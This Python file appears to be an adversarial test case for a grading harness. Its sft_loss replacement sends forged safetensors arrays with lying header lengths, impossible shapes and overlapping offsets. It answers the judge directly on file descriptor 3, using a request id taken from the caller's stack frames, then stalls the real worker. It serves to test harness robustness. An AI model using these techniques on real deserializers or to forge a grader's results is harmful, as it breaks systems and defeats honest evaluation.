# attack: answers with arrays whose safetensors headers lie: lengths near 2**64, overlaps, shapes without end
# group: c
# targets: tensor
# ends: wrong error bad_frame timeout
# control: none: a grader of one process opens no arrays

import json
import os
import struct
import sys
import time
import zlib

import msgpack

LONG = [2**32, 2**32]
LENGTHS = (None, None, None, 2**64 - 1, 2**63, 2**40)
"""What the array says of its header's length; None is the truth."""
HEADERS = (
    {"": {"dtype": "F32", "shape": LONG, "data_offsets": [0, 0]}},
    {"": {"dtype": "F32", "shape": [0, *LONG], "data_offsets": [0, 0]}},
    {"": {"dtype": "F32", "shape": [], "data_offsets": [4, 0]}},
    {"": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}},
    {"": {"dtype": "F32", "shape": [1] * 20_000, "data_offsets": [0, 4]}},
    {"": {"dtype": "F32", "shape": [], "data_offsets": [0, 4]}, "__metadata__": {"": "a" * 2**20}},
    {
        "": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        "x": {"dtype": "I8", "shape": [4], "data_offsets": [0, 4]},
    },
)


def _send(data):
    """Write bytes to the channel on which the worker answers the judge."""
    while data:
        data = data[os.write(3, data) :]


def _frame(body):
    """Send one frame with this body."""
    _send(struct.pack(">I", len(body)) + body)


def _request_id():
    """Return the number of the request under way, which stands in a local variable of the code that called us."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value) is dict and "op" in value and type(value.get("id")) is int:
                return value["id"]
        frame = frame.f_back
    return 0


def _reply(value):
    """Answer the request under way ahead of the worker, and keep the worker from answering too."""
    _frame(msgpack.packb({"id": _request_id(), "ok": value}))
    time.sleep(60)


def _array(header, length=None):
    text = json.dumps(header).encode()
    data = struct.pack("<Q", len(text) if length is None else length) + text + b"\0" * 4
    return {"$array": data, "type": "Tensor", "dtype": "float32"}


def sft_loss(logits, labels, num_items=None):
    """Answer with another lie each time: which one, the drawn numbers decide."""
    number = zlib.crc32(logits.detach().numpy().tobytes())
    value = _array(HEADERS[number % len(HEADERS)], LENGTHS[number // 16 % len(LENGTHS)])
    _reply({"value": value, "gradients": [_array(HEADERS[0], 2**64 - 8)], "attached": [True]})
